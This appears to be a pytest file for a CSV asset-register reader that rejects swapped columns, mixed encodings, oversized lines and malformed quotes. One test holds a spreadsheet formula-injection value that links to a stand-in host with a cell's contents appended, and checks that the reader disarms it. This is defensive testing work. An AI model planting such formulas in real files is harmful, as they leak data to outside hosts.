"""Tables that mean harm or were made carelessly: what is refused, what is told, and that the rest is read."""

from __future__ import annotations

import tracemalloc
from collections.abc import Iterator

import pytest

from sekisho.model.errors import InvalidInput
from sekisho.registry.reading import (
    BadRow,
    ColumnMapping,
    DeclaredItem,
    SwappedColumns,
    bytes_source,
    open_table,
    propose_mapping,
    read_lines,
    write_csv,
)
from sekisho.registry.reading.encodings import MAX_LINE, Chunks
from tests.inventoried import H100, gpu_uuid, serial, table

HEADINGS = ["シリアル番号", "型番", "設置場所"]


def rows_of(numbers: Iterator[int] | range, *, bad: int = -1) -> Iterator[bytes]:
    """A table in cp932, one row a piece; row `bad` has a serial that a spreadsheet rounded."""
    yield (",".join(HEADINGS) + "\r\n").encode("cp932")
    for number in numbers:
        written = "1.65492E+12" if number == bad else f"{1654922000000 + number}"
        yield f"{written},{H100},大阪\r\n".encode("cp932")


def test_swapped_columns_are_refused_with_the_right_mapping() -> None:
    """Models under serial and serials under model: refused whole, with what would fit."""
    turned = table([HEADINGS, *([H100, serial(n), "大阪"] for n in range(5))], encoding="cp932")
    with pytest.raises(SwappedColumns, match="'シリアル番号' and '型番' are swapped") as refused:
        propose_mapping(turned, name="x")
    read = list(read_lines(turned, refused.value.proposed))
    assert [row.serial for row in read if isinstance(row, DeclaredItem)] == [
        serial(n) for n in range(5)
    ]


def test_a_mapping_that_was_confirmed_is_still_held_against_the_values() -> None:
    """Last month's mapping, this month's table with two columns exchanged."""
    mapping = propose_mapping(table([HEADINGS, [serial(1), H100, "大阪"]]), name="x").mapping
    turned = table([HEADINGS, *([H100, serial(n), "大阪"] for n in range(5))])
    with pytest.raises(SwappedColumns):
        list(read_lines(turned, mapping))


def test_rows_that_are_swapped_further_down_are_refused_one_by_one() -> None:
    """The first hundred rows are sound, then somebody pasted another table below."""
    sound = [[serial(n), H100, "大阪"] for n in range(100)]
    opened = table([HEADINGS, *sound, [H100, serial(200), "大阪"], [gpu_uuid(1), H100, "大阪"]])
    rows = list(read_lines(opened, propose_mapping(opened, name="x").mapping))
    assert [row.line for row in rows if isinstance(row, BadRow)] == [102, 103]
    assert all("swapped" in row.error for row in rows if isinstance(row, BadRow))


def test_mixed_encodings_are_refused_with_their_line() -> None:
    """A cp932 table with a UTF-8 table pasted below: half of its sites would be read as others."""
    data = b"".join(rows_of(range(3))) + f"A1,{H100},大阪\r\n".encode()
    with pytest.raises(InvalidInput, match=r"f\.csv:5: the line is UTF-8, but line 1 is cp932"):
        open_table(bytes_source(data), path="f.csv")


def test_formula_cells_are_text_here_and_disarmed_when_written() -> None:
    """In a column that we keep it is text; as a serial it is refused; in our own table it runs nowhere."""
    evil = '=HYPERLINK("https://x.example/"&A1)'
    quoted = '"' + evil.replace('"', '""') + '"'
    opened = table([[*HEADINGS, "備考"], [serial(1), H100, "大阪", quoted], [quoted, H100, "", ""]])
    first, second = read_lines(opened, propose_mapping(opened, name="x").mapping)
    assert isinstance(first, DeclaredItem)
    assert first.extra["備考"] == evil
    assert second == BadRow(
        3, f"serial: {evil[:40]!r} is a formula, no identifier; write the value itself"
    )
    assert b"\"'=HYPERLINK" in write_csv([[evil]])


def test_one_bad_row_among_many_is_told_and_the_rest_is_taken() -> None:
    """Fifty thousand rows, one bad: its line, and all others."""
    _expect_one_bad(50_000)


@pytest.mark.soak
def test_one_bad_row_in_a_million_is_told_and_the_rest_is_taken() -> None:
    """The same of a million."""
    _expect_one_bad(1_000_000)


def _expect_one_bad(count: int) -> None:
    bad = count * 2 // 3
    opened = open_table(lambda: rows_of(range(count), bad=bad), path="f.csv")
    taken, refused = 0, list[BadRow]()
    for row in read_lines(opened, propose_mapping(opened, name="x").mapping):
        if isinstance(row, BadRow):
            refused.append(row)
        else:
            taken += 1
    assert taken == count - 1
    assert [(row.line, "rounded by a spreadsheet" in row.error) for row in refused] == [
        (bad + 2, True)
    ]


def test_memory_does_not_grow_with_the_rows() -> None:
    """Twenty thousand rows more cost the few bytes by which repeated serials are found."""

    def peak(count: int) -> int:
        opened = open_table(lambda: rows_of(range(count)), path="f.csv")
        mapping = propose_mapping(opened, name="x").mapping
        tracemalloc.start()
        for _ in read_lines(opened, mapping):
            pass
        _, highest = tracemalloc.get_traced_memory()
        tracemalloc.stop()
        return highest

    peak(100)  # what is made once
    assert peak(20_000) - peak(1_000) < 19_000 * 80


def _bomb(middle: bytes, *, pieces: int) -> Chunks:
    """A table with one row whose cell grows by `middle` again and again, made while it is read."""

    def chunks() -> Iterator[bytes]:
        yield f"serial,model\nA1,{H100}\nA2,".encode()
        for _ in range(pieces):
            yield middle
        yield f"\nA3,{H100}\n".encode()

    return chunks


@pytest.mark.parametrize("middle", [b"x" * 65_536, "横".encode() * 20_000])
def test_a_line_without_end_costs_its_own_row_and_no_memory(middle: bytes) -> None:
    """Sixty megabytes in one cell, as a packed file may hold in a few bytes."""
    source = _bomb(middle, pieces=1_000)
    opened = open_table(source, path="f.csv")
    mapping = propose_mapping(opened, name="x").mapping
    tracemalloc.start()
    rows = list(read_lines(opened, mapping))
    _, highest = tracemalloc.get_traced_memory()
    tracemalloc.stop()
    assert [row.line for row in rows] == [2, 3, 4]
    assert rows[1] == BadRow(3, f"longer than {MAX_LINE} bytes")
    assert highest < 4 << 20


def test_a_quote_that_is_opened_and_never_closed_swallows_nothing() -> None:
    """Ten thousand rows behind it are read all the same."""
    text = f'serial,model\n"Z0,{H100}\n' + "".join(f"Z{n},{H100}\n" for n in range(1, 10_001))
    opened = open_table(bytes_source(text.encode()), path="f.csv")
    mapping = ColumnMapping(
        name="x",
        kind="asset-register",
        columns=propose_mapping(table([["serial", "model"], ["A", "B"]]), name="x").mapping.columns,
    )
    rows = list(read_lines(opened, mapping))
    assert isinstance(rows[0], BadRow)
    assert sum(isinstance(row, DeclaredItem) for row in rows) == 10_000


def test_quotes_in_every_row_cost_no_more_than_a_bounded_look_ahead() -> None:
    """Each opens a cell that nothing closes: each is told, and it takes no minutes."""
    text = "serial,model\n" + '"A,B\n' * 3_001
    opened = open_table(bytes_source(text.encode()), path="f.csv")
    rows = list(opened.rows())
    assert len(rows) >= 1_500


def test_full_width_twins_are_one_serial() -> None:
    """The same number in full width on another line is the same item twice, not two items."""
    opened = table(
        [["serial", "model"], ["1654922000001", H100], ["１６５４９２２０００００１", H100]]
    )
    rows = list(read_lines(opened, propose_mapping(opened, name="x").mapping))
    assert rows[1] == BadRow(3, "serial: '1654922000001' stands in line 2 too")
